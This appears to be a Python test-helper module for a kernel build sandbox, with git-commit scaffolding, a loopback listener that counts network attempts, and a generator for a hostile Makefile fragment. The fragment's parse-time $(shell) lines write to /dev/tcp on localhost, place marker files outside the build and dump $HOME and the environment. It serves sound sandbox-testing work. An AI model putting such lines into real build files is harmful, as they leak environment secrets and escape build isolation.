"""Test-local helpers for the build tests: git trees with scripted commits (the fake kernel of
tests/fakekernel, or commits on top of the real linux-6.1 tree), a loopback listener to
catch a build reaching the network, and a hostile Makefile fragment."""
from __future__ import annotations

import shutil
import socket
import subprocess
import threading
from pathlib import Path

FAKE = Path(__file__).resolve().parent / "fakekernel"
GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@localhost", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@localhost", "GIT_AUTHOR_DATE": "2001-01-01T00:00:00+0000",
           "GIT_COMMITTER_DATE": "2001-01-01T00:00:00+0000"}


def git(tree: Path, *args: str) -> str:
    import os
    return subprocess.run(["git", "-C", str(tree), *args], check=True, capture_output=True, text=True,
                          env={**os.environ, **GIT_ENV}).stdout.strip()


def fake_tree(dest: Path) -> tuple[Path, str]:
    """A git repository holding the fake kernel; returns (tree, base commit)."""
    shutil.copytree(FAKE, dest)
    git(dest, "init", "-q", "-b", "main")
    git(dest, "add", "-A")
    git(dest, "commit", "-q", "-m", "fake kernel")
    return dest, git(dest, "rev-parse", "HEAD")


def commit_on(tree: Path, parent: str, changes: dict[str, str | None], message: str) -> str:
    """A new commit on ``parent`` with files replaced (None: deleted), made with git plumbing in a
    temporary index: no checkout (cheap on the 78k-file kernel tree), the tree's own checkout and
    index untouched. Returns its sha (the same every time: dates and names are pinned)."""
    import os
    import tempfile
    with tempfile.TemporaryDirectory() as tmp:
        env = {**os.environ, **GIT_ENV, "GIT_INDEX_FILE": f"{tmp}/index"}

        def g(*args: str, stdin: str | None = None) -> str:
            return subprocess.run(["git", "-C", str(tree), *args], check=True, capture_output=True, text=True,
                                  env=env, input=stdin).stdout.strip()
        g("read-tree", parent)
        for path, text in changes.items():
            if text is None:
                g("update-index", "--force-remove", "--", path)
            else:
                blob = g("hash-object", "-w", "--stdin", stdin=text)
                g("update-index", "--add", "--cacheinfo", f"100644,{blob},{path}")
        tree_sha = g("write-tree")
        return g("commit-tree", tree_sha, "-p", parent, "-m", message)


def edit(tree: Path, commit: str, path: str, old: str, new: str) -> str:
    """``path`` at ``commit`` with ``old`` replaced by ``new`` (which must occur)."""
    text = git(tree, "show", f"{commit}:{path}") + "\n"
    assert old in text, (path, old)
    return text.replace(old, new, 1)


class Listener:
    """A TCP listener on 127.0.0.1 outside any sandbox; ``count()`` says how many reached it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self._peers: list[tuple] = []
        self._sentinels: set[tuple] = set()
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            with self._lock:
                self._peers.append(peer)
            conn.close()

    def count(self, timeout: float = 30) -> int:
        """Connections made so far, once every one already made has been accepted: a connect()
        returns after the handshake, so a finished build's attempts are queued ahead of the
        sentinel this connects; when the sentinel is accepted, all of them are (no sleep)."""
        import time
        with socket.create_connection(("127.0.0.1", self.port), timeout=5) as s:
            me = s.getsockname()
            with self._lock:
                self._sentinels.add(me)
            deadline = time.monotonic() + timeout
            while time.monotonic() < deadline:
                with self._lock:
                    if me in self._peers:
                        return sum(1 for p in self._peers if p not in self._sentinels)
                time.sleep(0.01)
        raise TimeoutError("the listener did not accept its own sentinel connection")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def hostile_lines(port: int, markers: list[Path], listing: str) -> str:
    """Makefile lines that run at parse time: reach 127.0.0.1:port, write marker files outside
    the build, and list $HOME and the environment into ``listing`` (a build-dir path)."""
    cmds = [f"echo pwned > /dev/tcp/127.0.0.1/{port}"]
    cmds += [f"echo pwned > {m}" for m in markers]
    cmds += [f"ls -A $$HOME > {listing}.home", f"env > {listing}.env"]
    return "".join(f"HOSTILE_{i} := $(shell bash -c '{c}' 2>/dev/null)\n" for i, c in enumerate(cmds))
